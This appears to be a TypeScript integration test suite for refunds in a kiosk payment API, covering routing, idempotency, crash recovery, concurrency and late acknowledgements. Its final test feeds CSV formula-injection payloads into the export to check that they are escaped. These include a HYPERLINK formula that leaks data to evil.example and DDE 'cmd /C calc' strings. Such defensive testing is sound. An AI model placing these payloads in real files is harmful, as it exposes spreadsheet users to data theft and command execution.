import { parse } from 'csv-parse/sync';
import { Socket } from 'socket.io-client';
import { DataSource } from 'typeorm';
import { emitWithAck, eventually, RegisteredKiosk, registerKiosk } from './support/kiosks';
import { pay, paymentDomainModules, sale, recordingKiosk, WireCommand } from './support/payments';
import { API, Session, startTestApp, TestApp } from './support/test-app';

const ROUTE = 'POST /api/v1/payments/{id}/refund';

/** Issue 16 item 5: a refund only through its route, in one transaction, never twice, never lost. */
describe('refund integrity: one route, one transaction, exactly once, late acks reconciled, safe CSV', () => {
  let t: TestApp;
  let admin: Session;
  let db: DataSource;
  const sockets: Socket[] = [];

  beforeAll(async () => {
    t = await startTestApp({ domainModules: paymentDomainModules() });
    admin = await t.admin();
    db = t.app.get(DataSource);
  });
  afterAll(async () => {
    for (const s of sockets) s.close();
    await t.close();
  });

  const fakeKiosk = (k?: RegisteredKiosk) => recordingKiosk(t, sockets, k);
  const cardPayment = async (socket: Socket, amount = '10.00') => {
    const ack = await pay(socket, sale({ amount, method: 'card' }));
    expect(ack.ok).toBe(true);
    return ack.payment_id as string;
  };
  const refund = (id: string, body: Record<string, unknown>, key?: string) => {
    const req = t.http().post(`${API}/payments/${id}/refund`).set(admin.auth);
    if (key) req.set('Idempotency-Key', key);
    return req.send(body);
  };
  const getPayment = async (id: string) =>
    (await t.http().get(`${API}/payments/${id}`).set(admin.auth).expect(200)).body;
  const countOf = async (sql: string, params: unknown[]) =>
    ((await db.query(sql, params)) as Array<{ n: number }>)[0].n;
  const refundsOf = (paymentId: string) =>
    countOf(`SELECT count(*)::int AS n FROM payment_refunds WHERE payment_id = $1`, [paymentId]);
  const refundCommandsOf = (paymentId: string) =>
    countOf(
      `SELECT count(*)::int AS n FROM kiosk_commands WHERE command = 'refund' AND params->>'payment_id' = $1`,
      [paymentId],
    );
  const successAck = (socket: Socket, c: WireCommand) =>
    emitWithAck(socket, 'kiosk_command_ack', {
      command_id: c.command_id,
      kiosk_id: c.kiosk_id,
      command: 'refund',
      status: 'success',
      timestamp: new Date().toISOString(),
    });

  it('refuses a raw refund command on POST /kiosks/{id}/commands (422 naming the payments route), storing nothing', async () => {
    const { kiosk, socket } = await fakeKiosk();
    const id = await cardPayment(socket);
    const res = await t
      .http()
      .post(`${API}/kiosks/${kiosk.id}/commands`)
      .set(admin.auth)
      .send({ command: 'refund', params: { payment_id: id, amount: '10.00' } })
      .expect(422);
    expect(res.body).toMatchObject({
      statusCode: 422,
      error: 'Unprocessable Entity',
      message: `A refund command is issued only through ${ROUTE}`,
      details: [{ field: 'command', message: `refund is issued through ${ROUTE}` }],
    });
    expect(await refundCommandsOf(id)).toBe(0);
    expect(await getPayment(id)).toMatchObject({ status: 'completed', refundedAmount: '0.00' });
    const metrics = await t.http().get('/metrics').expect(200);
    expect(metrics.text).toMatch(/kiosk_commands_refused_total\{reason="refund_outside_its_route"\} [1-9]/);
  });

  it('refuses a bulk refund command (422 naming the payments route), creating no batch', async () => {
    const { kiosk, socket } = await fakeKiosk();
    const id = await cardPayment(socket);
    const res = await t
      .http()
      .post(`${API}/commands/bulk`)
      .set(admin.auth)
      .send({ command: 'refund', params: { payment_id: id }, kioskIds: [kiosk.id] })
      .expect(422);
    expect(res.body).toMatchObject({
      statusCode: 422,
      error: 'Unprocessable Entity',
      message: expect.stringContaining(ROUTE),
      details: [{ field: 'command', message: `refund is issued through ${ROUTE}` }],
    });
    expect(await countOf(`SELECT count(*)::int AS n FROM command_batches WHERE command = 'refund'`, [])).toBe(
      0,
    );
    expect(await refundCommandsOf(id)).toBe(0);
  });

  it('refunds a card payment through the payments route end to end: refund and command linked, kiosk success → refunded', async () => {
    const { kiosk, socket, commands } = await fakeKiosk();
    const id = await cardPayment(socket, '7.25');
    const res = await refund(id, { amount: '7.25', reason: 'wrong item' }).expect(202);
    expect(res.body).toMatchObject({ id, status: 'refund_pending', refundedAmount: '0.00' });
    const cmd = await eventually(async () => {
      expect(commands).toHaveLength(1);
      return commands[0];
    });
    expect(cmd).toMatchObject({
      command: 'refund',
      kiosk_id: kiosk.id,
      params: { payment_id: id, amount: '7.25' },
    });
    // written together: the refund names its command from the start
    const [r] = await db.query(`SELECT command_id, status FROM payment_refunds WHERE payment_id = $1`, [id]);
    expect(r).toEqual({ command_id: cmd.command_id, status: 'pending' });
    expect(await successAck(socket, cmd)).toMatchObject({ ok: true });
    await eventually(async () =>
      expect(await getPayment(id)).toMatchObject({ status: 'refunded', refundedAmount: '7.25' }),
    );
    const cmdView = await t.http().get(`${API}/commands/${cmd.command_id}`).set(admin.auth).expect(200);
    expect(cmdView.body.status).toBe('succeeded');
    expect(
      await countOf(
        `SELECT count(*)::int AS n FROM outbox WHERE event_type = 'payment.refunded' AND payload->>'id' = $1`,
        [id],
      ),
    ).toBe(1);
  });

  /**
   * The failing step, injected: storing a `crash-…` key with its answer raises — after the refund
   * (and its command) were written, what a crash or a killed connection at that point does. It fires
   * on INSERT and UPDATE alike, so it hits the same point of the earlier claim-then-store design.
   */
  const withCrashBeforeKeyStored = async (run: () => Promise<void>) => {
    await db.query(`
      CREATE FUNCTION test_crash_on_key() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN RAISE EXCEPTION 'simulated crash before the idempotency key is stored'; END $$`);
    await db.query(`CREATE TRIGGER test_crash_on_key BEFORE INSERT OR UPDATE ON payment_idempotency_keys
                    FOR EACH ROW WHEN (NEW.state = 'done' AND NEW.key LIKE 'crash-%')
                    EXECUTE FUNCTION test_crash_on_key()`);
    try {
      await run();
    } finally {
      await db.query(`DROP TRIGGER test_crash_on_key ON payment_idempotency_keys`);
      await db.query(`DROP FUNCTION test_crash_on_key()`);
    }
  };

  it('refunds a cash payment once when the request died between writing the refund and storing its key, then is retried', async () => {
    const { socket } = await fakeKiosk();
    const paid = await pay(socket, sale({ amount: '12.00', method: 'cash' }));
    const id = paid.payment_id as string;
    const body = { amount: '5.00', reason: 'coin jam' };
    await withCrashBeforeKeyStored(async () => {
      expect((await refund(id, body, `crash-${id}`)).status).toBe(500);
      expect(await refundsOf(id)).toBe(0);
      expect(await getPayment(id)).toMatchObject({ status: 'completed', refundedAmount: '0.00' });
    });
    const retried = await refund(id, body, `crash-${id}`).expect(200);
    expect(retried.body).toMatchObject({ status: 'partially_refunded', refundedAmount: '5.00' });
    const again = await refund(id, body, `crash-${id}`).expect(200);
    expect(again.headers['idempotent-replayed']).toBe('true');
    expect(await refundsOf(id)).toBe(1);
    expect(await getPayment(id)).toMatchObject({ refundedAmount: '5.00' });
  });

  it('leaves neither a card refund nor its command behind when the request died before its key was stored; the retry refunds once', async () => {
    const { socket, commands } = await fakeKiosk();
    const id = await cardPayment(socket, '12.00');
    const key = `crash-${id}`;
    await withCrashBeforeKeyStored(async () => {
      const crashed = await refund(id, { amount: '12.00', reason: 'double charge' }, key);
      expect(crashed.status).toBe(500);
      // nothing of it survived: no refund, no command, the payment untouched
      expect(await refundsOf(id)).toBe(0);
      expect(await refundCommandsOf(id)).toBe(0);
      expect(await getPayment(id)).toMatchObject({ status: 'completed', refundedAmount: '0.00' });
    });
    const retried = await refund(id, { amount: '12.00', reason: 'double charge' }, key).expect(202);
    expect(retried.body).toMatchObject({ status: 'refund_pending' });
    const again = await refund(id, { amount: '12.00', reason: 'double charge' }, key).expect(202);
    expect(again.headers['idempotent-replayed']).toBe('true');
    expect(again.body).toEqual(retried.body);
    expect(await refundsOf(id)).toBe(1);
    expect(await refundCommandsOf(id)).toBe(1);
    await eventually(async () => expect(commands).toHaveLength(1));
    expect(await successAck(socket, commands[0])).toMatchObject({ ok: true });
    await eventually(async () =>
      expect(await getPayment(id)).toMatchObject({ status: 'refunded', refundedAmount: '12.00' }),
    );
  });

  it('refunds once under 25 concurrent requests with one Idempotency-Key (more than the pool), all answered alike', async () => {
    const { socket, commands } = await fakeKiosk();
    const id = await cardPayment(socket, '30.00');
    const results = await Promise.all(
      Array.from({ length: 25 }, () => refund(id, { amount: '4.00', reason: 'race' }, `race-${id}`)),
    );
    expect(results.map((r) => r.status)).toEqual(Array(25).fill(202));
    for (const r of results) expect(r.body).toEqual(results[0].body);
    expect(results.filter((r) => r.headers['idempotent-replayed'] !== 'true')).toHaveLength(1);
    expect(await refundsOf(id)).toBe(1);
    expect(await refundCommandsOf(id)).toBe(1);
    await eventually(async () => expect(commands.map((c) => c.params.amount)).toEqual(['4.00']));
    // the key with another body is refused, as before
    const other = await refund(id, { amount: '5.00', reason: 'race' }, `race-${id}`).expect(422);
    expect(other.body.message).toMatch(/different request/);
  });

  it('records a refund whose kiosk success arrives after its command expired: refundedAmount, event, history', async () => {
    const { socket, commands } = await fakeKiosk();
    const id = await cardPayment(socket, '9.00');
    await refund(id, { amount: '6.00', reason: 'slow card network' }).expect(202);
    const cmd = await eventually(async () => {
      expect(commands).toHaveLength(1);
      return commands[0];
    });
    // the kiosk is slow: the command expires and the refund is given up
    await db.query(`UPDATE kiosk_commands SET expires_at = now() WHERE id = $1`, [cmd.command_id]);
    await eventually(async () =>
      expect(await getPayment(id)).toMatchObject({ status: 'completed', refundedAmount: '0.00' }),
    );
    // then it answers: the money moved, so the books follow
    expect(await successAck(socket, cmd)).toMatchObject({ ok: true });
    await eventually(async () =>
      expect(await getPayment(id)).toMatchObject({ status: 'partially_refunded', refundedAmount: '6.00' }),
    );
    const [r] = await db.query(`SELECT status, error FROM payment_refunds WHERE payment_id = $1`, [id]);
    expect(r).toEqual({ status: 'completed', error: null });
    const events = await db.query(
      `SELECT payload FROM outbox WHERE event_type = 'payment.refunded' AND payload->>'id' = $1`,
      [id],
    );
    expect(
      events.map((e: { payload: { refundedAmount: string; refund: { amount: string } } }) => e.payload),
    ).toEqual([
      expect.objectContaining({
        refundedAmount: '6.00',
        refund: expect.objectContaining({ amount: '6.00' }),
      }),
    ]);
    const view = await t.http().get(`${API}/commands/${cmd.command_id}`).set(admin.auth).expect(200);
    expect(view.body.status).toBe('succeeded');
    expect(
      view.body.history.map((h: { from: string; to: string; detail: string | null }) => [
        h.from,
        h.to,
        h.detail,
      ]),
    ).toEqual([
      [null, 'pending', null],
      ['pending', 'sent', null],
      ['sent', 'expired', null],
      ['expired', 'succeeded', 'late success ack after expired: carried out by the kiosk'],
    ]);
    // a repeat of the late ack changes nothing more
    await successAck(socket, cmd);
    expect((await getPayment(id)).refundedAmount).toBe('6.00');
  });

  it('does not reconcile a late success for a refund command the kiosk never received', async () => {
    const kiosk = await registerKiosk(t);
    const online = await fakeKiosk(kiosk);
    const id = await cardPayment(online.socket, '3.00');
    online.socket.close();
    await refund(id, { reason: 'never delivered' }).expect(202);
    const [cmd] = await db.query(`SELECT id FROM kiosk_commands WHERE params->>'payment_id' = $1`, [id]);
    await db.query(`UPDATE kiosk_commands SET expires_at = now() WHERE id = $1`, [cmd.id]);
    await eventually(async () => expect((await getPayment(id)).status).toBe('completed'));
    const back = await fakeKiosk(kiosk);
    const ack = await successAck(back.socket, {
      command_id: cmd.id,
      kiosk_id: kiosk.id,
      command: 'refund',
      params: {},
    });
    expect(ack).toMatchObject({ ok: true, duplicate: true });
    await new Promise((r) => setTimeout(r, 300));
    expect(await getPayment(id)).toMatchObject({ status: 'completed', refundedAmount: '0.00' });
    const view = await t.http().get(`${API}/commands/${cmd.id}`).set(admin.auth).expect(200);
    expect(view.body.status).toBe('expired');
  });

  it("escapes formula-leading text cells in the payments CSV export (=HYPERLINK → '=HYPERLINK), numbers untouched", async () => {
    const kiosk = await registerKiosk(t);
    const hostile = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      'TX-plain',
    ];
    for (const transactionId of hostile) {
      await t
        .http()
        .post(`${API}/payments`)
        .set(admin.auth)
        .send({
          kioskId: kiosk.id,
          transactionId,
          amount: '1.00',
          currency: 'USD',
          method: 'cash',
          status: 'completed',
          occurredAt: new Date().toISOString(),
        })
        .expect(201);
    }
    const res = await t
      .http()
      .get(`${API}/payments/export.csv?kioskId=${kiosk.id}`)
      .set(admin.auth)
      .buffer(true)
      .parse((r, done) => {
        let text = '';
        r.setEncoding('utf8');
        r.on('data', (c: string) => (text += c));
        r.on('end', () => done(null, text));
      })
      .expect(200);
    const rows = parse(res.body as string, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.transactionId).sort()).toEqual(
      [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Refund")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'\t=1+1",
        "'\r=1+1",
        'TX-plain',
      ].sort(),
    );
    for (const r of rows) {
      expect(r).toMatchObject({
        kioskId: String(kiosk.id),
        amount: '1.00',
        amountMinor: '100',
        currency: 'USD',
      });
    }
  });
});
